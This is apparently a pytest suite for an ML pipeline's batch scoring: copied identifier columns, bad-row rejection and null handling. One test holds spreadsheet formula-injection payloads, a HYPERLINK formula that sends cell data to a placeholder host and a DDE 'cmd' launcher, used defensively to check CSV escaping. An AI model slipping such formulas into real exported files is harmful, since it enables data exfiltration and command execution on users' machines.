"""Tests of batch scoring: copied columns, and bad rows."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from gpupipe.config import load_config
from gpupipe.errors import ConfigError, SchemaError
from gpupipe.inference.model import Model, load_model
from gpupipe.inference.scoring.local import score
from gpupipe.inference.scoring.outputs import write_table
from gpupipe.inference.scoring.scoring_settings import ScoringSettings
from gpupipe.inference.scoring.summary import ScoreSummary
from gpupipe.io.settings import TableSource
from gpupipe.pipeline.run import run_pipeline

ISO_TIME = "an ISO 8601 time such as 2024-01-31 or 2024-01-31T05:06:07Z"
N = 200
CONFIG = """\
source: {path: t.csv, target: y, id: id, drop: [code, day, note], schema: {active: boolean, since: datetime}}
data:
  age: {range: [0, 120]}
  plan: {set: [a, b, c]}
  score: {nulls: false}
features:
  - impute: "@numeric"
  - standardize: "@numeric"
  - encode: "@categorical"
models: [logistic_regression]
report: {enabled: false}
"""


def frame() -> pd.DataFrame:
    row = np.arange(N)
    return pd.DataFrame({
        "id": [f"{i:05d}" for i in row],
        "code": row * 7,
        "day": pd.date_range("2024-01-01", periods=N).strftime("%Y-%m-%d"),
        "note": ["called", "wrote"] * (N // 2),
        "age": row % 90,
        "score": row % 17 / 4,
        "plan": np.array(list("abc"))[row % 3],
        "active": np.array(["yes", "no"])[row % 2],
        "since": pd.date_range("2020-01-01", periods=N, freq="3D").strftime("%Y-%m-%d"),
        "y": np.where(row % 90 > 45, "yes", "no"),
    })  # fmt: skip


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("scored")
    frame().to_csv(folder / "t.csv", index=False)
    (folder / "c.yaml").write_text(CONFIG)
    return run_pipeline(load_config(folder / "c.yaml"), folder / "run").path


@pytest.fixture(scope="module")
def model(run: Path) -> Model:
    return load_model(run)


def batch(**cells: tuple[int, Any]) -> pd.DataFrame:
    """Return ten rows as text, with some cells replaced."""
    rows = frame().head(10).astype(str).drop(columns="y")
    for name, (row, value) in cells.items():
        rows.loc[row, name] = value
    return rows


def scored(model: Model, rows: pd.DataFrame | str, tmp_path: Path, **options: Any) -> tuple[ScoreSummary, pd.DataFrame]:
    text = rows if isinstance(rows, str) else rows.to_csv(index=False)
    (tmp_path / "new.csv").write_text(text)
    output = tmp_path / options.pop("output", "scores.csv")
    summary = score(model.folder, str(tmp_path / "new.csv"), output, ScoringSettings(**options))
    found = pd.read_csv(output, dtype={"id": str}) if output.suffix == ".csv" else pd.read_parquet(output)
    return summary, found


def test_the_run_and_the_model_record_the_identifier(run: Path, model: Model, tmp_path: Path) -> None:
    tested = pd.read_parquet(run / "predictions.parquet")
    assert list(tested.columns[:3]) == ["row", "id", "target"]
    assert (tested["id"] == frame()["id"].to_numpy()[tested["row"]]).all()
    assert "id" not in model.inputs
    summary, found = scored(model, batch(), tmp_path)
    assert list(found) == ["id", "prediction", "probability_no", "probability_yes"] and summary.ids == ("id",)
    assert list(found["id"]) == list(batch()["id"])
    np.testing.assert_array_equal(found["probability_yes"], model.predict_proba(batch())[:, 1])
    assert "id" not in scored(model, batch(), tmp_path, ids=())[1]
    assert "id" not in scored(model, batch().drop(columns="id"), tmp_path)[1]


def test_dropped_columns_with_unique_values_are_identifiers(tmp_path: Path) -> None:
    frame().assign(ratio=np.arange(N) / 7).to_csv(tmp_path / "t.csv", index=False)
    text = CONFIG.replace("id: id, drop: [", "drop: [ratio, id, ")
    (tmp_path / "c.yaml").write_text(text)
    made = load_model(run_pipeline(load_config(tmp_path / "c.yaml"), tmp_path / "run").path)
    assert made.manifest["reading"]["id"] == ["id", "code"]  # not ratio, day or note


@pytest.mark.parametrize("keep", [["code,pl*"], ["code", "plan"]])
def test_kept_columns_are_named_or_matched_and_typed_in_parquet(model: Model, tmp_path: Path, keep: list[str]) -> None:
    summary, found = scored(model, batch(), tmp_path, keep=keep, output="scores.parquet")
    assert list(found)[:4] == ["id", "code", "plan", "prediction"] and summary.kept == ("code", "plan")
    assert found["code"].tolist() == (np.arange(10) * 7).tolist() and found["id"][3] == "00003"


def test_python_keeps_columns_of_frames_and_files(model: Model, tmp_path: Path) -> None:
    batch().to_csv(tmp_path / "new.csv", index=False)
    streamed = pa.Table.from_pandas(batch(), preserve_index=False).to_reader()  # can be read once
    for data in (batch(), streamed, tmp_path / "new.csv"):
        found = model.predict_table(data, keep=["id", "pl*"])
        assert found.column_names == ["id", "plan", "prediction", "probability_no", "probability_yes"]
        assert found.column("id").to_pylist() == list(batch()["id"])
    with pytest.raises(ConfigError, match="keep: the input has no column 'plans'"):
        model.predict_table(batch(), keep=["plans"])


def test_types_of_parquet_are_kept(model: Model, tmp_path: Path) -> None:
    rows = pa.Table.from_pandas(batch().assign(age=np.arange(10), score=1.5), preserve_index=False)
    rows = rows.append_column("tags", pa.array([["x", "y"]] * 10)).append_column("big", pa.array([2**62 + 1] * 10))
    pq.write_table(rows, tmp_path / "new.parquet")
    score(model.folder, str(tmp_path / "new.parquet"), tmp_path / "s.parquet", ScoringSettings(keep=["tags", "big"]))
    found = pq.read_table(tmp_path / "s.parquet")
    assert found.select(["tags", "big"]).equals(rows.select(["tags", "big"]))
    with pytest.raises(ConfigError, match=r"'tags' has type list<.*>, which CSV does not support"):
        score(model.folder, str(tmp_path / "new.parquet"), tmp_path / "s.csv", ScoringSettings(keep=["tags"]))


@pytest.mark.parametrize(
    ("columns", "options", "says"),
    [
        ({}, {"ids": ["ID"]}, "(?s)--id: the input has no column 'ID'.*did you mean 'id'"),
        ({}, {"keep": ["plans"]}, "(?s)--keep: the input has no column 'plans'.*did you mean 'plan'"),
        ({"prediction": "1"}, {"keep": ["pred*"]}, "(?s)input column 'prediction'.*do not keep it"),
        ({"row": "1"}, {"keep": ["row"], "on_error": "reject"}, "input column 'row'"),
    ],
)
def test_columns_that_cannot_be_copied_are_rejected(
    model: Model, tmp_path: Path, columns: dict[str, Any], options: dict[str, Any], says: str
) -> None:
    with pytest.raises(ConfigError, match=says):
        scored(model, batch().assign(**columns), tmp_path, **options)
    assert not (tmp_path / "scores.csv").exists()


BAD = {"age": (2, "old"), "active": (4, "perhaps"), "since": (5, "yesterday")}


def test_one_error_names_all_bad_cells(model: Model, tmp_path: Path) -> None:
    with pytest.raises(SchemaError) as caught:
        scored(model, batch(**BAD), tmp_path)
    assert caught.value.what.split("\n") == [
        "expected a number in column 'age'; found 'old' in data row 2",
        "expected a boolean (true/false, yes/no, 1/0) in column 'active'; found 'perhaps' in data row 4",
        f"expected {ISO_TIME} in column 'since'; found 'yesterday' in data row 5",
    ]
    assert "--on-error reject" in caught.value.fix and "new.csv" in caught.value.where


@pytest.mark.parametrize(
    ("column", "says", "fix"),
    [
        (
            pa.array([pd.Timestamp("2024-01-01")] * 10),
            "expected a number in column 'age'; found times",
            "convert the col",
        ),
        (pa.array([[1]] * 10), "expected one value per row in 'age'", "flatten"),
    ],
)
@pytest.mark.parametrize("on_error", ["error", "reject"])
def test_columns_of_another_type_raise_errors_instead_of_rejecting_rows(
    model: Model, tmp_path: Path, column: pa.Array, says: str, fix: str, on_error: Any
) -> None:
    rows = pa.Table.from_pandas(batch().assign(score=1.5), preserve_index=False)
    pq.write_table(rows.set_column(rows.column_names.index("age"), "age", column), tmp_path / "new.parquet")
    with pytest.raises(SchemaError, match=says) as caught:
        score(model.folder, str(tmp_path / "new.parquet"), tmp_path / "s.csv", ScoringSettings(on_error=on_error))
    assert caught.value.fix.startswith(fix) and "new.parquet" in caught.value.where


def test_rejected_rows_are_written_to_a_file_and_other_rows_are_scored(model: Model, tmp_path: Path) -> None:
    broken = BAD | {"plan": (7, "z"), "score": (8, "")}
    lines = batch(**broken).to_csv(index=False).splitlines()
    lines.insert(2, "00099,only three,fields")  # the second data row
    summary, found = scored(model, "\n".join(lines) + "\n", tmp_path, on_error="reject")
    good = [0, 1, 3, 6, 9]
    assert found["row"].tolist() == [0, 2, 4, 7, 10] and list(found["id"]) == [f"{i:05d}" for i in good]
    np.testing.assert_array_equal(found["probability_yes"], model.predict_proba(batch().iloc[good])[:, 1])
    rejected = pd.read_csv(tmp_path / "scores.rejected.csv").fillna("").to_numpy().tolist()
    assert [row[:4] for row in rejected] == [
        [1, "", "", "3 fields; expected 9"],
        [3, "age", "old", "expected a number"],
        [5, "active", "perhaps", "expected a boolean (true/false, yes/no, 1/0)"],
        [6, "since", "yesterday", f"expected {ISO_TIME}"],
        [8, "plan", "z", "breaks the rule `set: [a, b, c]`"],
        [9, "score", "", "breaks the rule `nulls: false`"],
    ]
    assert [row[4] for row in rejected] == [lines[1 + row[0]] for row in rejected]
    assert (summary.n_rows, summary.n_rejected, summary.rejected_path) == (5, 6, tmp_path / "scores.rejected.csv")
    json.dumps(summary.to_json())
    assert scored(model, batch(), tmp_path, on_error="reject")[0].n_rejected == 0
    assert not (tmp_path / "scores.rejected.csv").exists()  # from the previous scoring


def test_bad_cells_become_null_where_the_rules_allow_it(model: Model, tmp_path: Path) -> None:
    broken = BAD | {"plan": (7, "z"), "score": (8, "much")}
    summary, found = scored(model, batch(**broken), tmp_path, on_error="null")
    assert summary.nulled == {"age": 1, "active": 1, "since": 1, "plan": 1}
    assert summary.reasons == {"score: expected a number": 1}
    as_null = batch(**{name: (row, None) for name, (row, _) in broken.items()}).drop(index=8)
    assert found["row"].tolist() == as_null.index.tolist()
    np.testing.assert_array_equal(found["probability_yes"], model.predict_proba(as_null)[:, 1])


def test_skipped_rows_are_reported(model: Model, tmp_path: Path) -> None:
    def skip(source: TableSource) -> TableSource:
        return source.model_copy(update={"csv": source.csv.model_copy(update={"bad_rows": "skip"})})

    text = batch().to_csv(index=False) + "short\n"
    summary, found = scored(model, text, tmp_path, adjust=skip)
    assert len(found) == 10 and summary.notes[0].startswith("skipped 1 row whose number of fields differs")
    assert summary.n_rejected == 0 and "row" not in found


def test_an_input_with_bad_rows_only_raises_an_error_and_its_rows_are_written(model: Model, tmp_path: Path) -> None:
    with pytest.raises(SchemaError, match=r"all 10 rows were rejected:\nage: expected a number: 10 rows"):
        scored(model, batch().assign(age="old"), tmp_path, on_error="reject")
    assert len(pd.read_csv(tmp_path / "scores.rejected.csv")) == 10 and not (tmp_path / "scores.csv").exists()
    header = batch().to_csv(index=False).splitlines()[0]
    with pytest.raises(SchemaError, match="all 2 rows were rejected"):
        scored(model, f"{header}\nshort\n1,2\n", tmp_path, on_error="null")


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
@pytest.mark.parametrize("data", [batch(), batch(**BAD)])
def test_a_file_with_other_content_is_neither_removed_nor_replaced_by_rejected_rows(
    model: Model, tmp_path: Path, suffix: str, data: pd.DataFrame
) -> None:
    theirs = tmp_path / f"s.rejected{suffix}"
    (pd.DataFrame.to_csv if suffix == ".csv" else pd.DataFrame.to_parquet)(batch(), theirs)
    content = theirs.read_bytes()
    data.to_csv(tmp_path / "new.csv", index=False)
    with pytest.raises(ConfigError, match="the file exists and has other content") as caught:
        score(model.folder, str(tmp_path / "new.csv"), tmp_path / f"s{suffix}", ScoringSettings(on_error="reject"))
    assert caught.value.where == str(theirs)
    assert theirs.read_bytes() == content and not (tmp_path / f"s{suffix}").exists()


def test_rows_are_numbered_across_several_files(model: Model, tmp_path: Path) -> None:
    rows = batch().assign(score=["1,5"] * 4 + ["1,5x"] + ["1,5"] * 5)
    for i, part in enumerate((rows[:5], rows[5:])):
        lines = part.to_csv(index=False, sep=";").splitlines()
        (tmp_path / f"{i}.csv").write_text("\n".join([*lines, "short"]))
    comma = {"csv": {"decimal": ",", "thousands": "."}}

    def adjust(source: TableSource) -> TableSource:
        return TableSource.model_validate(source.model_dump(by_alias=True, exclude_unset=True) | comma)

    summary = score(
        model.folder, str(tmp_path / "*.csv"), tmp_path / "s.parquet", ScoringSettings(adjust=adjust, on_error="reject")
    )
    rejected = pd.read_parquet(tmp_path / "s.rejected.parquet")
    assert rejected["row"].tolist() == [4, 5, 11] and rejected["raw"][1] == "short"
    assert rejected["raw"][0] == ";".join(rows.iloc[4])
    found = pd.read_parquet(tmp_path / "s.parquet")
    good = batch().assign(score="1.5").drop(index=4)
    np.testing.assert_array_equal(found["probability_yes"], model.predict_proba(good)[:, 1])
    assert found["row"].tolist() == [0, 1, 2, 3, 6, 7, 8, 9, 10] and summary.n_rejected == 3


def test_safe_csv_escapes_formulas_but_not_numbers(model: Model, tmp_path: Path) -> None:
    dangerous = ['=HYPERLINK("http://x/?"&A1,"go")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
    plain = ["a", "", "-5", "+1.5e-3", "a=b", " =1", "'=1"]
    texts = pa.chunked_array([dangerous, plain])
    table = pa.table({"=name": texts, "coded": texts.dictionary_encode(), "n": pa.array([-1.5] * len(texts))})
    write_table(table, tmp_path / "t.csv", safe_csv=True)
    with (tmp_path / "t.csv").open(newline="") as file:
        header, *rows = csv.reader(file)
    assert header == ["'=name", "coded", "n"]
    expected = [f"'{text}" for text in dangerous] + plain
    assert rows == [[text, text, "-1.5"] for text in expected]
    write_table(table, tmp_path / "t.csv")
    assert pd.read_csv(tmp_path / "t.csv", keep_default_na=False)["=name"].tolist()[:4] == dangerous[:4]


def test_safe_csv_applies_to_scores_and_rejected_rows(model: Model, tmp_path: Path) -> None:
    rows = frame()
    rows["note"], rows.loc[3, "plan"] = "=1+1", "=2+2"
    rows.to_csv(tmp_path / "t.csv", index=False)
    options: dict[str, Any] = {"keep": ["note"], "on_error": "reject", "safe_csv": True}
    summary = score(model.folder, str(tmp_path / "t.csv"), tmp_path / "s.csv", ScoringSettings(**options))
    assert summary.rejected_path is not None
    assert set(pd.read_csv(tmp_path / "s.csv")["note"]) == {"'=1+1"}
    assert pd.read_csv(summary.rejected_path)["value"].tolist() == ["'=2+2"]
